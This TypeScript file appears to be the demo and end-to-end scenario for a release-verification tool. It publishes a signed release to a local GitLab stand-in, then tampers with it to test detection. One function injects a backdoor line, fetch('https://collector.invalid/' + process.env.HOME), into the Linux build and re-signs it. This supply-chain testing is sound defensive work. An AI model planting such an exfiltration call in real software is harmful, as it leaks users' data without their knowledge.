/**
 * The offline demo as a reusable scenario (run by `npm run demo` and by the end-to-end test): a
 * maintainer publishes a signed release of a two-target app to a GitLab stand-in on loopback, and
 * release-verifier checks it through its real code paths — the CLI, @gitbeaker/rest over HTTP, the
 * local builder and the checker. Then the published assets are tampered with in two ways.
 */
import { spawn } from 'node:child_process';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { stringify } from 'yaml';
import type { RunReport } from '../lambda/core/report';
import {
  createDemoRepo,
  filesAtCommit,
  REPO_HYGIENE_FILES,
  maintainerKeys,
  officialBuild,
  sha256sums,
  signMinisign,
  signOpenpgpDetached,
  writeKeys,
  type DemoRepo,
  type MaintainerKeys,
} from './demo-release';
import { startGitLabStandIn, type GitLabStandIn, type StandInProject } from './gitlab-standin';

const CLI = fileURLToPath(new URL('../bin/release-verifier.mjs', import.meta.url));
const TOKEN = 'glpat-demo-token-0123456789';
const PROJECT = 'demo/mealplanner';
const PACKAGE = 'mealplanner';
/** The image a real deployment would build in; the demo builds on the host (--docker never). */
const NODE_IMAGE = 'public.ecr.aws/docker/library/node@sha256:3a5e0fd2ec5ad5e94b0a2fcb1d5bd00e57dd5c4a0e19f3a0e0b3d1a0f1c0e3f2';

export interface VerifyOutcome {
  exitCode: number;
  report: RunReport;
  stderr: string;
}

export interface DemoScenario {
  workspace: string;
  configPath: string;
  runsDir: string;
  repo: DemoRepo;
  gitlab: GitLabStandIn;
  /**
   * Runs `release-verifier verify --json` as a child process, as a user would. `store` is the
   * directory of run records and of the ledger (release history): runs sharing a store compare
   * what they see with what earlier runs saw. Default: the workspace.
   */
  verify(options?: { echo?: boolean; store?: string; args?: string[] }): Promise<VerifyOutcome>;
  /** replaces the Linux tarball with a build of modified source, re-signed with the maintainer's key */
  publishBackdooredLinuxBuild(): void;
  /** restores the genuine Linux tarball and signature */
  restoreLinux(): void;
  /** replaces the web bundle without updating the signed SHA256SUMS */
  swapWebBundleBehindManifest(): void;
  /** a write path opens on the forge: a deploy key gets push access (the next run's alert has a WARNING line for it) */
  grantDeployKeyPush(): void;
  close(): Promise<void>;
}

function names(version: string) {
  return { linux: `mealplanner_${version}_linux_x64.tar.gz`, web: `mealplanner_${version}_web.js.gz` };
}

/** The verifier's configuration for the demo release, written to the workspace; returns its path. */
function writeDemoConfig(workspace: string, gitlabUrl: string, repoDir: string, pgpFingerprint: string): string {
  const config = {
    version: 1,
    gitlab: { url: gitlabUrl, project: PROJECT, token: { env: 'DEMO_GITLAB_TOKEN' }, cloneUrl: repoDir },
    release: 'latest',
    alerts: { emails: ['maintainer@mealplanner-app.example'] },
    limits: { maxAssetBytes: 64 * 1024 * 1024, downloadTimeoutSeconds: 60, parallelBuilds: 2 },
    targets: [
      {
        name: 'linux-x64',
        image: NODE_IMAGE,
        command: 'node build.mjs linux',
        timeoutMinutes: 10,
        artifacts: [
          {
            path: 'dist/mealplanner_{version}_linux_x64.tar.gz',
            asset: 'mealplanner_{version}_linux_x64.tar.gz',
            signature: { scheme: 'minisign', publicKeyFile: 'keys/minisign.pub' },
          },
        ],
      },
      {
        name: 'web',
        image: NODE_IMAGE,
        command: 'node build.mjs web',
        timeoutMinutes: 10,
        artifacts: [
          {
            path: 'dist/mealplanner_{version}_web.js.gz',
            asset: 'mealplanner_{version}_web.js.gz',
            signature: {
              scheme: 'sha256sums',
              manifestAsset: 'SHA256SUMS',
              manifestSignature: {
                scheme: 'openpgp',
                fingerprint: pgpFingerprint,
                publicKeyFile: 'keys/maintainer.asc',
                signatureAsset: 'SHA256SUMS.asc',
              },
            },
          },
        ],
      },
    ],
  };
  const configPath = join(workspace, 'release-verifier.yaml');
  writeFileSync(configPath, `# written by the demo; see examples/ for a real project\n${stringify(config)}`);
  return configPath;
}

export async function setupDemo(workspace: string): Promise<DemoScenario> {
  mkdirSync(workspace, { recursive: true });
  // the release commit carries build and CI files with problems the repository audit lists (issue 11)
  const repo = createDemoRepo(join(workspace, 'mealplanner'), undefined, REPO_HYGIENE_FILES);
  const keys: MaintainerKeys = await maintainerKeys();
  const keyFiles = writeKeys(join(workspace, 'keys'), keys);
  const n = names(repo.version);

  // The maintainer's official release build, signed.
  const linux = officialBuild(repo, 'linux', join(workspace, 'ci', 'linux'));
  const web = officialBuild(repo, 'web', join(workspace, 'ci', 'web'));
  const linuxSig = signMinisign(keys, linux, n.linux);
  const manifest = sha256sums({ [n.linux]: linux, [n.web]: web });
  const manifestSig = await signOpenpgpDetached(keys, Buffer.from(manifest));

  // Published on "GitLab" as generic package files with release links, as GitLab CI does it.
  const gitlab = await startGitLabStandIn({ token: TOKEN });
  const project: StandInProject = gitlab.model.addProject({ path: PROJECT });
  gitlab.model.addTag(project, {
    name: repo.tag,
    commitSha: repo.commitSha,
    tagObjectSha: repo.tagObjectSha,
    annotated: true,
    message: `mealplanner ${repo.tag}`,
  });
  // GitLab's repository tree and raw files at the release commit, for the audit
  project.repository.set(repo.commitSha, filesAtCommit(repo.dir, repo.commitSha));
  gitlab.model.publishRelease(project, {
    tag: repo.tag,
    commitSha: repo.commitSha,
    packageName: PACKAGE,
    assets: [
      { name: n.linux, bytes: linux },
      { name: `${n.linux}.minisig`, bytes: Buffer.from(linuxSig), linkType: 'other' },
      { name: n.web, bytes: web },
      { name: 'SHA256SUMS', bytes: Buffer.from(manifest), linkType: 'other' },
      { name: 'SHA256SUMS.asc', bytes: Buffer.from(manifestSig), linkType: 'other' },
    ],
  });

  const configPath = writeDemoConfig(workspace, gitlab.url, repo.dir, keys.pgpFingerprint);
  void keyFiles;
  const runsDir = workspace;

  const replace = (fileName: string, bytes: Uint8Array) => gitlab.model.replaceAsset(project, { packageName: PACKAGE, version: repo.version, fileName, bytes });

  return {
    workspace,
    configPath,
    runsDir,
    repo,
    gitlab,
    verify: (options = {}) => runVerify(configPath, options.store ?? runsDir, options.echo ?? false, options.args ?? []),
    publishBackdooredLinuxBuild() {
      const evil = officialBuild(repo, 'linux', join(workspace, 'attacker', 'linux'), (src) =>
        appendFileSync(join(src, 'src', 'planner.js'), `\nfetch('https://collector.invalid/' + process.env.HOME).catch(() => {});\n`),
      );
      replace(n.linux, evil);
      replace(`${n.linux}.minisig`, Buffer.from(signMinisign(keys, evil, n.linux)));
    },
    restoreLinux() {
      replace(n.linux, linux);
      replace(`${n.linux}.minisig`, Buffer.from(linuxSig));
    },
    swapWebBundleBehindManifest() {
      const evil = officialBuild(repo, 'web', join(workspace, 'attacker', 'web'), (src) =>
        appendFileSync(join(src, 'src', 'pantry.js'), `\nexport const miner = true;\n`),
      );
      replace(n.web, evil);
    },
    grantDeployKeyPush() {
      project.writePaths.deployKeys = project.writePaths.deployKeys.map((k, i) => (i === 0 ? { ...k, title: 'release-bot', can_push: true } : k));
    },
    close: () => gitlab.close(),
  };
}

function runVerify(configPath: string, runsDir: string, echo: boolean, args: string[]): Promise<VerifyOutcome> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, 'verify', '--config', configPath, '--store', runsDir, '--docker', 'never', '--json', ...args], {
      env: { ...process.env, DEMO_GITLAB_TOKEN: TOKEN },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => {
      stderr += d;
      if (echo) process.stderr.write(d);
    });
    child.on('error', reject);
    child.on('close', (code) => {
      try {
        resolve({ exitCode: code ?? -1, report: JSON.parse(stdout) as RunReport, stderr });
      } catch {
        reject(new Error(`verify (exit ${code}) did not print a JSON report:\n${stdout}\n${stderr}`));
      }
    });
  });
}
